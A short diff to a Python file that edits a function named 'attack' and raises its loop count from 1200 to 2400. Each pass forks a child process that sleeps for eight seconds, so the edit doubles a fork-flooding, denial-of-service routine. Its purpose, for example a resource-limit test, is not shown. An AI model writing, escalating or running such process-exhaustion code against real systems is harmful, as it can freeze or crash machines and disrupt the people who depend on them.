@@ -4,7 +4,7 @@ import time
 
 
 def attack(a: int = 0) -> int:
-    for _ in range(1200):
+    for _ in range(2400):
         try:
             if os.fork() == 0:
                 time.sleep(8)
